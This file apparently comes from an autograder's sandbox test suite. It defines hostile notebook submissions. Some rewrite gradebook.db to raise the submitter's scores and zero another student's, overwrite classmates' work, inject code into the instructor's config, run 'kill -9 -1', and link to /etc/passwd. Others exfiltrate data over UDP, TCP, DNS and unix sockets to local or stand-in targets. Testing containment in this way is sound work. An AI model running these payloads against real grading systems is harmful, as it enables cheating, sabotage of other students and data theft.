"""Tricks against the gradebook, other students, the settings and the grader; and ways to send things out."""

from __future__ import annotations

from tests.attacks.cases.case import RIGHT_ONE_HOT, TELL, Case

_REWRITE = """
import glob, sqlite3

RAISE = "update grade set manual_score = 10, auto_score = 10"
LOWER = '''update grade set auto_score = 0, manual_score = 0 where notebook_id in (select submitted_notebook.id
from submitted_notebook join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id
where student_id = 'alice')'''

def rewrite():
    for name in ["@COURSE@/gradebook.db", *glob.glob("../../../gradebook.db")]:
        for command in (RAISE, LOWER):
            try:
                base = sqlite3.connect("file:" + name + "?mode=rw", uri=True, timeout=1)
                base.execute(command)
                base.commit()
                base.close()
            except sqlite3.Error:
                pass
"""
_DETACHED = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        rewrite()
        open("@COURSE@/delayed", "w").write("still here")
    os._exit(0)
"""
_OVERWRITE = """
import glob, os, shutil
for name in [*glob.glob("../../zoe/*/*.ipynb"), *glob.glob("../../alice/*/*.ipynb"),
             *glob.glob("@COURSE@/submitted/*/toy/*.ipynb"), *glob.glob("@COURSE@/release/toy/*"),
             "@COURSE@/tests/hidden/test_toy.py", "@COURSE@/solutions/toy.py"]:
    try:
        open(name, "w").write("{}")
    except OSError:
        pass
    try:
        os.replace(__file__ if "__file__" in globals() else "/etc/passwd", name)
    except OSError:
        pass
"""


def tamper(name: str, does: str, code: str, *, walls: bool = False) -> Case:
    """A trick in a cell of its own, then unanswered functions that try it again."""
    return Case(name, "tamper", does, 0, first=code, last=code, walls=walls)


def exfil(name: str, does: str, code: str) -> Case:
    function = f"{TELL}\ndef send(text):\n    import os, socket\n" + "\n".join(
        f"    {line}" for line in code.strip().splitlines()
    )
    attempt = "\ntry:\n    send(b'exfil')\nexcept OSError as error:\n    print(error)\n"
    return Case(
        name,
        "exfil",
        does,
        0,
        first=function + attempt,
        one_hot="def one_hot(ids, depth):\n    send(repr(ids).encode())\n    return None\n",
        split="def split(rows, at):\n    send(repr(rows).encode())\n    return None\n",
    )


CASES = (
    tamper(
        "tamper_gradebook",
        "sets own scores to 10 and alice's to 0 in gradebook.db",
        f"{_REWRITE}\nrewrite()\n",
    ),
    tamper(
        "tamper_gradebook_delayed",
        "a detached process waits, then rewrites the gradebook after grading ended",
        _REWRITE + _DETACHED,
    ),
    tamper("tamper_next_student", "overwrites the submission of zoe, graded next", _OVERWRITE),
    tamper(
        "tamper_config",
        "appends code to nbgrader_config.py: runs as the instructor at the next command",
        """
import glob
for name in ["@COURSE@/nbgrader_config.py", *glob.glob("../../../nbgrader_config.py"),
             "@COURSE@/tests/hidden/conftest.py", "@COURSE@/solutions/__init__.py"]:
    try:
        open(name, "a").write("\\nopen('@COURSE@/persistent', 'w')\\n")
    except OSError:
        pass
""",
    ),
    tamper(
        "tamper_kill_parent",
        "kills the grading process with SIGKILL",
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
        walls=True,
    ),
    tamper(
        "tamper_kill_all",
        "kills everything that it may: kill -9 -1, process 1, process groups",
        """
import os, signal
for target in (1, 0, -2, -os.getppid(), os.getppid()):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            if target not in (0, -os.getpgid(0)):
                os.kill(target, number)
        except OSError:
            pass
os.system("kill -9 -1")
""",
        walls=True,
    ),
    tamper(
        "tamper_links",
        "symbolic and hard links from its folder to the course, then writes through them",
        """
import os
targets = ["@COURSE@/gradebook.db", "@COURSE@/submitted/alice/toy/toy.ipynb", "@COURSE@/tests/hidden/test_toy.py",
           "@COURSE@", "/etc/passwd", "/proc/self/mem", "/proc/1/root"]
for number, target in enumerate(targets):
    for make in (os.symlink, os.link):
        try:
            make(target, f"link-{number}-{make.__name__}")
            open(f"link-{number}-{make.__name__}", "a").write("CORRUPT")
        except OSError:
            pass
try:
    os.rename("link-3-symlink", "toy.ipynb")
except OSError:
    pass
""",
    ),
    tamper(
        "tamper_own_submission",
        "replaces its own submission by a right one while it is graded",
        """
import json
for name in ("toy.ipynb", "@FOLDER@/toy.ipynb"):
    try:
        notebook = json.load(open(name))
        for cell in notebook["cells"]:
            if "def one_hot" in "".join(cell["source"]):
                cell["source"] = "def one_hot(ids, depth): return np.eye(depth, dtype='f')[np.asarray(ids)]"
        json.dump(notebook, open(name, "w"))
    except (OSError, ValueError):
        pass
""",
    ),
    tamper(
        "tamper_store",
        "writes Reports of its own into the store, and deletes those of others",
        """
import glob, json, os, shutil
for folder in ("@COURSE@/.autograder", "@COURSE@/autograded", "@COURSE@/feedback"):
    for name in glob.glob(folder + "/**", recursive=True):
        try:
            open(name, "w").write('{"points": 10}')
        except OSError:
            pass
    shutil.rmtree(folder, ignore_errors=True)
""",
    ),
    Case(
        "tamper_released_files",
        "tamper",
        "changes and deletes the released files and the libraries it runs on",
        5,
        first="""
import os, shutil, sys
for folder in [".", *sys.path]:
    for name in ("numpy/__init__.py", "autograder/worker/agent.py", "autograder/__init__.py", "numbers.txt"):
        path = os.path.join(folder or ".", name)
        try:
            open(path, "w").write("raise SystemExit")
        except OSError:
            pass
        try:
            os.remove(path)
        except OSError:
            pass
shutil.rmtree("/kit", ignore_errors=True)
""",
        one_hot=RIGHT_ONE_HOT,
    ),
    exfil(
        "exfil_udp",
        "UDP datagram to 127.0.0.1:9998",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(text[:1000], ('127.0.0.1', 9998))",
    ),
    exfil(
        "exfil_tcp",
        "TCP connection to 127.0.0.1:9998, by IPv4, IPv6 and TCP fast open",
        "s = socket.create_connection(('127.0.0.1', 9998), 1)\ns.sendall(text)",
    ),
    exfil(
        "exfil_dns",
        "name look-up of a host under .invalid (run only without a network)",
        "socket.getaddrinfo(text[:20].hex() + '.example.invalid', 80)",
    ),
    exfil(
        "exfil_abstract_unix",
        "connects to an abstract unix socket of the host (\\0exfil)",
        "s = socket.socket(socket.AF_UNIX)\ns.connect('\\0exfil')\ns.sendall(text)",
    ),
    exfil(
        "exfil_vsock",
        "creates AF_VSOCK, AF_NETLINK, AF_PACKET and AF_ALG sockets; no connect",
        "for family in (socket.AF_VSOCK, socket.AF_NETLINK, socket.AF_PACKET, socket.AF_ALG):\n"
        "    try:\n        tell(family, socket.socket(family, socket.SOCK_RAW if family != 40 else 1))\n"
        "    except OSError as error:\n        print(error)",
    ),
    exfil(
        "exfil_unix_path",
        "lists pathname unix sockets (/run, /tmp, /var/run/docker.sock, ipykernel ports)",
        "import glob, stat\n"
        "for name in glob.glob('/run/**', recursive=True) + glob.glob('/tmp/**', recursive=True) + ['/box/../x']:\n"
        "    try:\n        if stat.S_ISSOCK(os.stat(name).st_mode):\n"
        "            s = socket.socket(socket.AF_UNIX)\n            s.connect(name)\n            s.sendall(text)\n"
        "    except OSError:\n        pass",
    ),
    exfil(
        "exfil_datagram_pair",
        "sends from one end of a socket pair to a name of the host",
        "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\na.sendto(text[:100], '\\0exfil-datagram')",
    ),
    exfil(
        "exfil_passed_descriptor",
        "passes its own descriptors over the wire",
        "socket.send_fds(socket.socket(fileno=os.dup(3)), [b''], [os.open('.', os.O_RDONLY)])",
    ),
)
